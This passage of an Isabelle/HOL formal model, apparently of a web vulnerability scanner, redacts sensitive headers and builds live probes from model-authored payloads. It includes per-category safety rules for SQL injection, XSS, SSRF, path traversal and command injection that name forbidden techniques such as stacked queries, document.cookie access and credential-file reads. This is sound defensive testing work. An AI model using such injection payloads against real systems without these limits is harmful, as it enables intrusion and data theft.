  "REDACTED_HEADERS = [''authorization'', ''cookie'', ''set-cookie'', ''x-api-key'']"

definition safeHeaders :: "(string, string) jsmap option \<Rightarrow> (string, string) jsmap option" where
  "safeHeaders headers = map_option (map (\<lambda>(k, v). (k, if js_lower k \<in> set REDACTED_HEADERS then ''[redacted]'' else v))) headers"

definition toExchange :: "live_probe \<Rightarrow> live_response \<Rightarrow> http_exchange" where
  "toExchange probe response =
     \<lparr>ex_request = \<lparr>rq_method = pq_method (lb_request probe), rq_url = pq_url (lb_request probe), rq_headers = safeHeaders (pq_headers (lb_request probe)),
        rq_bodySnippet = map_option (snippet MAX_SNIPPET) (pq_body (lb_request probe))\<rparr>,
      ex_response = \<lparr>rs_status = int (lp_status response), rs_headers = safeHeaders (lp_headers response),
        rs_bodySnippet = Some (snippet MAX_SNIPPET (lp_body response))\<rparr>,
      ex_note = Some (lb_note probe)\<rparr>"

section \<open>Composed payloads\<close>

definition needs_marker :: "category \<Rightarrow> bool" where
  "needs_marker c \<longleftrightarrow> c = Xss \<or> c = Command_injection"

definition buildComposedProbe :: "category \<Rightarrow> variant_ctx \<Rightarrow> string \<Rightarrow> live_probe" where
  "buildComposedProbe c ctx value =
     param_probe ctx value Adaptive_role (if needs_marker c then Some (vx_marker ctx) else None)
       (''adaptive composed '' @ category_str c @ '' payload (model-authored, safety-validated)'')"

fun composeGuidanceFor :: "category \<Rightarrow> string \<Rightarrow> string" where
  "composeGuidanceFor Sql_injection marker = ''For sql_injection: composedPayload must be a read-only boolean/UNION/''
     @ ''time-based proof - never DROP/DELETE/UPDATE/INSERT/TRUNCATE/ALTER/EXEC ''
     @ ''and never a semicolon (no stacked queries); any SLEEP()/WAITFOR delay must be 5 seconds or less.''"
| "composeGuidanceFor Xss marker = ''For xss: composedPayload must use only <script>, <img>, or <svg> based ''
     @ ''reflection, must literally embed the exact marker text '' @ quoted_marker marker
     @ '', and must never reference an external URL, document.cookie, fetch(), or eval().''"
| "composeGuidanceFor Ssrf marker = ''For ssrf: composedPayload must be a single absolute http(s) URL with no embedded credentials.''"
| "composeGuidanceFor Path_traversal marker = ''For path_traversal: composedPayload must contain a directory-traversal ''
     @ ''sequence targeting a plain informational file (never credential/private-key material) and must contain no shell metacharacters.''"
| "composeGuidanceFor Command_injection marker = ''For command_injection: composedPayload may only run a read-only command ''
     @ ''from this exact set - id, whoami, pwd, hostname, uname, echo <token>, or ''
     @ ''sleep 0-5 - joined by ;, |, `, $(), or &&, must literally embed the exact marker text '' @ quoted_marker marker
     @ '', and must never use redirection (>, <) or any other command.''"
| "composeGuidanceFor _ marker = []"

end
